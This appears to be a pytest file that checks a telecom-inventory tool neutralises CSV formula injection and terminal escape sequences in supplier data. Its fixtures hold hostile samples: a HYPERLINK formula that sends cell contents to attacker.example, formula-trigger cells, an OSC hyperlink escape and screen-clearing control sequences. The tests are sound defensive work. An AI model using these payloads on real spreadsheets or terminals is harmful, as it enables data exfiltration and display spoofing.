"""Hostile text on its way out (issue 19, items 1 and 5): inventory cells written by a supplier
reach a spreadsheet (the CSV attached to every PDF report) and a terminal (every table). Neither
may turn into a live formula or a control sequence; both must stay readable."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from pypdf import PdfReader

from dutybound.cli.terminal import printable, terminal_console
from dutybound.engine.cells import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_writer

ROOT = Path(__file__).resolve().parent.parent.parent
UK = ROOT / "examples" / "uk-telecoms"
HEADER = "asset_id,vendor,product,category,function,network,country,use,status,quantity,site"
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A2,"click")'
# What a spreadsheet program evaluates when a cell starts with it (OWASP, CSV injection).
LIVE = re.compile(r"^[=+\-@\t\r]")
CLEAR_SCREEN = "\x1b[2J"
OSC_LINK = "\x1b]8;;http://attacker.example/\x1b\\click\x1b]8;;\x1b\\"
CSI_8BIT = "\x9b2J"  # the C1 form of ESC [


def cli(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "dutybound", *map(str, args)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "COLUMNS": "250", **(env or {})},
    )


def hostile_inventory(folder: Path) -> Path:
    """Huawei kit in the UK (so every row is affected and lands in the CSV) whose free-text
    cells are what an attacker would write."""
    rows = [
        (HYPERLINK, "Huawei", "+SUM(1+1)", "telecom_equipment", "core", "4g", "@cmd"),
        ("-2+3", "Huawei", "AAU", "telecom_equipment", "ran", "5g", "North"),
        (f"T{CLEAR_SCREEN}1", "Huawei", f"p{CSI_8BIT}", "telecom_equipment", "ran", "5g", OSC_LINK),
    ]
    path = folder / "assets.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(HEADER + "\n")
        writer = csv.writer(handle, lineterminator="\n")
        for asset_id, vendor, product, category, function, network, site in rows:
            writer.writerow(
                [asset_id, vendor, product, category, function, network, "GB", "", "installed",
                 "1", site]
            )  # fmt: skip
    return path


# --- item 1: spreadsheet-bound cells ---------------------------------------------------------


@pytest.mark.parametrize("first", sorted(FORMULA_TRIGGERS))
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted_and_otherwise_kept(first: str) -> None:
    value = f"{first}1+1"
    assert spreadsheet_cell(value) == "'" + value
    assert not LIVE.match(spreadsheet_cell(value))


@pytest.mark.parametrize("value", ["Huawei", "", "1+1", "a=b", "'=quoted already", "ZTE -2"])
def test_a_harmless_cell_is_unchanged(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_numbers_stay_numbers() -> None:
    """A quantity is written as a number, not as text (negative numbers are not inventory
    values: quantities are counted units)."""
    out = io.StringIO()
    spreadsheet_writer(out).writerow([3, 0.5, None, "=1"])
    assert out.getvalue() == "3,0.5,,'=1\n"


def attachment_rows(pdf: bytes) -> list[list[str]]:
    data = PdfReader(io.BytesIO(pdf)).attachments["affected-assets.csv"][0].decode("utf-8")
    return list(csv.reader(io.StringIO(data)))


def test_formulas_in_the_inventory_are_inert_in_the_report_attachment(tmp_path: Path) -> None:
    """The CLI's report: the CSV read back from the PDF has no cell a spreadsheet evaluates,
    and the attacker's text is still there to read, behind one quote."""
    out = tmp_path / "report.pdf"
    result = cli(
        "report",
        "--profile",
        UK / "profile.yaml",
        "--assets",
        hostile_inventory(tmp_path),
        "--as-of",
        "2026-11-28",
        "--out",
        out,
    )
    assert result.returncode == 0, result.stderr
    rows = attachment_rows(out.read_bytes())
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 4  # the header and the three hostile assets
    assert [cell for cell in cells if LIVE.match(cell)] == []
    assert "'" + HYPERLINK in cells and "'+SUM(1+1)" in cells and "'@cmd" in cells
    assert "'-2+3" in cells


def test_every_csv_and_xlsx_writer_goes_through_the_sanitiser() -> None:
    """The shipped code writes spreadsheet files only through ``engine.cells``: a new
    ``csv.writer`` or openpyxl workbook elsewhere would bypass it."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
    offenders = []
    for folder in ("engine", "reports", "dutybound/cli", "dutybound/service"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "cells.py" and path.parent.name == "engine":
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if writers.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{n}")
    assert offenders == []


# --- item 5: terminal-bound strings ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (CLEAR_SCREEN, "\\x1b[2J"),
        (CSI_8BIT, "\\x9b2J"),
        ("a\rb", "a\\rb"),
        ("bell\x07", "bell\\x07"),
        ("del\x7f", "del\\x7f"),
        ("\u202eevil", "\\u202eevil"),  # right-to-left override: reorders what is shown
        ("Zhōngxìng 中兴 ZTE — ok", "Zhōngxìng 中兴 ZTE — ok"),
        ("tab\tand\nnewline", "tab\\tand\\nnewline"),
    ],
)
def test_printable_shows_controls_as_escapes_and_keeps_text(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_the_terminal_console_neutralises_every_string_it_renders() -> None:
    """Markup the program writes keeps its styles; control characters inside any string
    (a table cell, a printed line) come out as visible escapes."""
    from rich.table import Table

    buffer = io.StringIO()
    console = terminal_console(file=buffer, width=100, force_terminal=True)
    table = Table()
    table.add_column("id")
    table.add_row(f"T{CLEAR_SCREEN}1")
    console.print(table)
    console.print(f"[bold]site[/] {OSC_LINK}\nnext line")
    text = buffer.getvalue()
    assert CLEAR_SCREEN not in text and "\x1b]" not in text and "\x9b" not in text
    assert "T\\x1b[2J1" in text and "next line" in text
    assert "\x1b[1m" in text  # the program's own bold survived


def test_every_command_prints_through_the_terminal_console() -> None:
    """The sanitiser sits in the console, so a command that made its own ``rich`` console
    would print inventory text raw."""
    own = re.compile(r"\bConsole\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for path in (ROOT / "dutybound" / "cli").rglob("*.py")
        if path.name != "terminal.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if own.search(line)
    ]
    assert offenders == []


def test_escape_sequences_in_inventory_cells_never_reach_the_terminal(tmp_path: Path) -> None:
    """``evaluate`` as a table, on a terminal (forced colour: the program's own styles are
    escape sequences too): the inventory's sequences arrive as visible text."""
    result = cli(
        "evaluate",
        "--profile",
        UK / "profile.yaml",
        "--assets",
        hostile_inventory(tmp_path),
        "--as-of",
        "2026-11-28",
        "--format",
        "table",
        env={"FORCE_COLOR": "1", "TTY_COMPATIBLE": "1"},
    )
    assert result.returncode == 0, result.stderr
    assert CLEAR_SCREEN not in result.stdout and "\x9b" not in result.stdout
    assert "\\x1b[2J" in result.stdout


def test_vendors_screen_shows_control_characters_as_text(tmp_path: Path) -> None:
    names = tmp_path / "suppliers.txt"
    names.write_text(f"Huawei{CLEAR_SCREEN}\n{OSC_LINK}\nZTE{CSI_8BIT}\n", encoding="utf-8")
    result = cli("vendors", "screen", names, "--format", "table", "--as-of", "2026-11-28")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout
    assert "Huawei\\x1b[2J" in result.stdout


def test_an_error_quoting_a_hostile_cell_is_printed_inert(tmp_path: Path) -> None:
    """The one-line error for bad input quotes the user's value: it goes to the terminal too."""
    assets = tmp_path / "assets.csv"
    assets.write_text(
        f"{HEADER}\nA-1,Huawei,p,telecom_equipment,core,4g,GB,,inst{CLEAR_SCREEN}alled,1,s\n",
        encoding="utf-8",
    )
    result = cli(
        "evaluate", "--profile", UK / "profile.yaml", "--assets", assets, "--as-of", "2026-11-28"
    )
    assert result.returncode == 2, result.stderr
    assert "\x1b" not in result.stderr and "Traceback" not in result.stderr
    assert "assets.csv:2" in result.stderr
